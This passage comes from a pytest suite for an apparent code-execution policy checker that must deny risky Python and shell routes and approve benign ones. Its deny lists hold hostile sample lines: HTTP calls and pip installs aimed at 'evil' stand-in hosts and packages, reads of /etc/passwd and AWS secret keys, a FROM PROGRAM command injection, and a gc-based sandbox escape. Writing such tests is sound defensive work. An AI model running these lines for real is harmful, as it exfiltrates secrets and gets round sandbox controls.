    ("import sqlalchemy\nsqlalchemy.create_engine('postgresql://u@db.internal/x')", NET),
    ("import sqlalchemy\nsqlalchemy.create_engine(url)", PATHS),  # a sqlite URL would be a file anywhere
    ("import duckdb\nduckdb.sql(\"SELECT * FROM '/etc/passwd.csv'\")", PATHS),
    ("import duckdb\nduckdb.sql(\"SELECT * FROM t JOIN '/root/x.parquet' USING (id)\")", PATHS),
    ("import duckdb\nduckdb.sql('SELECT * FROM read_csv(?)', params=[p])", PATHS),
    ("import duckdb\nduckdb.sql('COPY t TO $1')", FILES),
    ("import duckdb\nduckdb.connect('md:my_db')", NET),
    ("import sqlite3\nc = sqlite3.connect(':memory:')\nc.execute(\"COPY t FROM PROGRAM 'id'\")", DYN),
    ("import _io\n_io.open_code('/etc/passwd')", SYS),
]

HUBS = [  # model APIs, hubs and dataset downloaders; an HTTP client reached through its own modules
    ("import torch\ntorch.hub.load('evil/repo', 'model')", NET),
    ("import torch\ntorch.hub.load('evil/repo', 'model')", DYN),
    ("import transformers\ntransformers.pipeline('text-generation', model='gpt2')", NET),
    ("from transformers import AutoModel\nAutoModel.from_pretrained('x/y')", NET),
    ("import openai\nopenai.OpenAI().chat.completions.create(model='x', messages=[])", NET),
    ("import anthropic\nanthropic.Anthropic().messages.create(model='x', max_tokens=1, messages=[])", NET),
    ("import tensorflow_datasets as tfds\ntfds.load('mnist')", NET),
    ("import spacy\nspacy.cli.download('en_core_web_sm')", PROC),
    ("import requests\nrequests.api.request('get', 'http://evil.com')", NET),
    ("import requests.sessions\nrequests.sessions.Session().get('http://evil.com')", NET),
    ("from autogen_ext.code_executors.local import LocalCommandLineCodeExecutor\nLocalCommandLineCodeExecutor()", DYN),
    ("import gc\n[r for r in gc.get_referrers(open) if isinstance(r, dict)][0]['os']", DYN),
    ("import pip\npip.main(['install', 'evil'])", DYN),
    ("from pip._internal import main\nmain(['install', 'evil'])", DYN),
    ("from pip._internal.cli.main import main\nmain(['install', 'x'])", DYN),
    ("import setuptools\nsetuptools.setup(name='x')", DYN),
    ("import pydantic_settings\nclass S(pydantic_settings.BaseSettings):\n    key: str = ''\nprint(S().key)", ENV),
    ("from pydantic_settings import BaseSettings\nBaseSettings()", ENV),
    ("import environs\nenvirons.Env().str('AWS_SECRET_ACCESS_KEY')", ENV),
    ("from decouple import config\nconfig('SECRET_KEY')", ENV),
    ("import dynaconf\ndynaconf.Dynaconf(envvar_prefix='APP')", ENV),
]

ROUTES = [*SOURCE, *STDLIB_FILES, *NETWORK, *PROCESSES, *DATA, *RESOLVERS, *PATHLIB, *ENVIRONMENT, *LABELS, *BUILTINS,
          *UNJUDGED, *THIRD_PARTY, *REACHED,
          *DATA_MORE, *HUBS]


def _denial(code: str, language: str = "python"):
    decision = BROAD.evaluate(analyze(code, language=language), executor="broad")
    return decision, {v.constraint for v in decision.violations}


@pytest.mark.parametrize(("code", "constraint"), ROUTES)
def test_python_route_is_denied_naming_what_it_does(code, constraint):
    decision, constraints = _denial(code)
    assert not decision.approved
    assert constraint in constraints, decision.violations


@pytest.mark.parametrize(("code", "constraint"), SHELL)
def test_shell_route_is_denied_naming_what_it_does(code, constraint):
    decision, constraints = _denial(code, "bash")
    assert not decision.approved
    assert constraint in constraints, decision.violations


def test_the_set_is_as_large_as_promised():
    assert len(ROUTES) + len(SHELL) >= 150


BENIGN = [
    # in-memory buffers handed to readers and writers
    "import io, gzip\ngzip.GzipFile(fileobj=io.BytesIO(b'x')).read()",
    "import csv\nlist(csv.reader(['a,b', 'c,d']))",
    "import csv, io\nlist(csv.reader(io.StringIO('a,b')))",
    "import pandas as pd, io\npd.read_csv(io.StringIO('a\\n1'))",
    "import json, io\njson.load(io.StringIO('{}'))",
    "import numpy as np, io\nnp.loadtxt(io.StringIO('1 2'))",
    "import matplotlib.pyplot as plt, io\nplt.savefig(io.BytesIO())",
    "import io, numpy as np\nb = io.BytesIO()\nnp.save(b, np.zeros(3))",
    "import io\nbuf = io.StringIO()\ndf.to_csv(buf)",
    "import io, zipfile\nzipfile.ZipFile(io.BytesIO(data))",
    "import io, tarfile\ntarfile.open(fileobj=io.BytesIO(data))",
    "from PIL import Image\nimport io\nImage.open(io.BytesIO(data))",
    # keyword arguments named like builtins
    "import seaborn as sns\nsns.pairplot(df, vars=['a', 'b'])",
    "model = load_model(p, compile=False)",
    "f(open=1)",
    "plot(x, type='bar', input=3, exec=False, eval=True)",
    # getattr over a literal sequence of plain names
    "for name in ['mean', 'sum', 'max']:\n    getattr(df, name)()",
    "stats = {n: getattr(df, n)() for n in ('mean', 'std')}",
    # names of closed modules judged pure
    "import os\nprint(os.getcwd(), os.sep, os.path.basename('a/b'), os.path.splitext('x.csv'))",
    "import logging\nlog = logging.getLogger(__name__)\nlog.info('x')\nlogging.basicConfig(level=logging.INFO)",
    "import asyncio\nasync def f():\n    await asyncio.sleep(0)\nasyncio.run(f())",
    "import subprocess\nx = subprocess.PIPE",
    "import socket, signal, select\nsocket.AF_INET, signal.SIGTERM",
    "import tempfile\ntempfile.gettempdir()",
    "import urllib.parse\nurllib.parse.quote('a b')",
    "import importlib.metadata\nimportlib.metadata.version('pandas')",
    "from pathlib import Path\n(Path('/data/analysis') / 'x.csv').name",
    "from os import *\nprint(1)",
    "import ssl\nssl.create_default_context()",
    "import concurrent.futures as cf\nwith cf.ThreadPoolExecutor() as ex:\n    list(ex.map(str, [1]))",
    "x = 'ｆｕｌｌｗｉｄｔｈ text in a string'",
    "# coding: utf-8\nimport math\n",
    "# -*- coding: latin-1 -*-\nx = 1\n",
    "'{0} and {1.real} and {name}'.format(1, 2, name='x')",
    "import uuid\nuuid.uuid4()",
    "import xml.etree.ElementTree as ET\nroot = ET.fromstring('<a><b/></a>')\nprint(ET.tostring(root))",
    "from xml.dom import minidom\nprint(minidom.parseString('<a/>').toxml())",
    "import mimetypes\nmimetypes.guess_type('a.csv')",
    # standard-library modules judged pure
    "import math, cmath, statistics, decimal, fractions, random, itertools, functools, operator, collections\n"
    "import heapq, bisect, array, copy, pprint, string, re, textwrap, difflib, unicodedata, struct, json, csv\n"
    "import datetime, time, calendar, zoneinfo, hashlib, hmac, base64, binascii, secrets, uuid, enum, typing\n"
    "import dataclasses, abc, types, contextlib, warnings, traceback, weakref, queue, threading, argparse\n"
    "import unittest, email, html.parser, ipaddress, zlib, locale, platform, sched, graphlib, numbers, ast\n"
    "from __future__ import annotations\nfrom collections.abc import Mapping\nfrom xml.etree import ElementTree",
    "import matplotlib.pyplot as plt\nplt.style.use('ggplot')\nplt.style.use({'axes.grid': True})",
    # pandas expressions over columns and locals; packages that reach nothing outside
    "import pandas as pd\ndf = pd.DataFrame()\ndf.query('A < @limit and B > 0.5')\n"
    "pd.eval('(df1 + df2) / (df3 - 1)')\ndf.eval('D = sin(A) + log(B)', inplace=True)",
    "import tqdm, pytz, dateutil.parser\nfor _ in tqdm.tqdm(range(3)):\n    pass\npytz.timezone('UTC')\n"
    "dateutil.parser.parse('2020-01-01')",
    "import numpy as np\nm = np.ma.zeros(3)\nprint(m.sum())",
    "import sqlalchemy\nengine = sqlalchemy.create_engine('sqlite://')",
    # the import path read
    "import sys\nprint(sys.path[0], len(sys.path))",
    # SQLite in memory touches no file
    "import sqlite3\nc = sqlite3.connect(':memory:')\nc.close()",
    "import sqlite3\nsqlite3.connect('file::memory:?cache=shared', uri=True)",
    "import sqlite3\nsqlite3.connect('file:mem1?mode=memory&cache=shared', uri=True)",
]


@pytest.mark.parametrize("code", BENIGN)
def test_benign_code_is_approved(code):
    ir = analyze(code)
    decision = COMPUTE.evaluate(ir, executor="c")
    assert decision.approved and not ir.unresolved, (decision.violations, ir.unresolved)


SHELL_READER = parse_policy('agent "s" { can "code_execution" with constraints { allowed_languages: ["bash"], '
                            'allowed_commands: ["ls", "cat", "grep", "echo", "test", "["], allowed_file_operations: '
                            '["read"], allowed_file_paths: ["/data/analysis"] } }')


@pytest.mark.parametrize("code", [
    "grep '[0-9]*' /data/analysis/a.csv",  # a quoted pattern is no glob
    "cat /data/analysis/*.csv",
    "[ -f /data/analysis/a.csv ] && cat /data/analysis/a.csv",
    'test "$1" = yes && echo ok',
    "echo 'a*b' \"/etc/*\"",
])
def test_benign_shell_is_approved(code):
    decision = SHELL_READER.evaluate(analyze(code, language="bash"), executor="s")
    assert decision.approved, decision.violations
